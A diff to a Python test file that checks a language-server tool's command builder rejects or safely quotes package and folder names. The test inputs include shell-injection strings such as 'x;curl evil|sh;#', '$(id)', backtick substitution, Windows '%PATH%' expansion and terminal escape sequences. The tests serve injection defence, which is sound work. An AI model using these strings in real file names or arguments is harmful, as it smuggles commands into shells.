@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import shlex
+import subprocess
 from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
@@ -12,7 +13,7 @@ from rlm_core import Prediction
 from rlm_core.measurement import Measurement, Store, source_hash
 from rlm_core.queries.analysis import Analyser
 from rlm_core.source.parsed import ParsedSource
-from rlm_lsp.history.measurements import StoredMeasurement, command_for, measurements_of
+from rlm_lsp.history.measurements import StoredMeasurement, _quoted, command_for, measurements_of
 from rlm_lsp.rendering import labels as render
 from rlm_lsp.rendering.hover import MOST_MEASURED, hover_text
 
@@ -185,3 +186,49 @@ def test_the_command_names_the_package_and_its_project(tmp_path: Path) -> None:
         "--package",
         "shapes",
     ]
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["x;curl evil|sh;#", "$(id)", "`id`", "a b", "a\nid\n", "--help", "a&b", "a'b", 'a"b', "1a", "a-b", "\x1b[2J"],
+)
+def test_a_package_that_is_not_named_by_an_identifier_has_no_command(tmp_path: Path, name: str) -> None:
+    package = tmp_path / name
+    package.mkdir()
+    (package / "__init__.py").touch()
+    assert command_for(package / "area.py") is None
+
+
+@pytest.mark.parametrize("name", ["x;id;#", "$(id)", "`id`", "a b", "a'b", 'a"b', "a&b", "-x", "é"])
+def test_the_name_of_the_folder_is_one_word(tmp_path: Path, name: str) -> None:
+    package = tmp_path / name / "shapes"
+    package.mkdir(parents=True)
+    (package / "__init__.py").touch()
+    command = command_for(package / "area.py")
+    assert command is not None
+    script = command.replace("rlm-lsp measure tests --package shapes", "pwd")
+    done = subprocess.run(["/bin/sh", "-c", script], capture_output=True, text=True, check=True)
+    assert done.stdout == f"{package.parent}\n"
+
+
+@pytest.mark.parametrize("name", ["a\nid\n", "a\x1b[2J", "a\rid", "a\u202eb"])
+def test_a_folder_whose_name_controls_the_terminal_has_no_command(tmp_path: Path, name: str) -> None:
+    package = tmp_path / name / "shapes"
+    package.mkdir(parents=True)
+    (package / "__init__.py").touch()
+    assert command_for(package / "area.py") is None
+
+
+@pytest.mark.parametrize(
+    ("word", "expected"),
+    [
+        (r"C:\a & b", r'"C:\a & b"'),
+        (r"C:\%PATH%", None),
+        (r"C:\$(id)", None),
+        ("C:\\a`b", None),
+        (r"C:\a!b", None),
+        ("C:\\a\nb", None),
+    ],
+)
+def test_a_folder_on_windows_is_quoted_for_both_shells(word: str, expected: str | None) -> None:
+    assert _quoted(word, windows=True) == expected
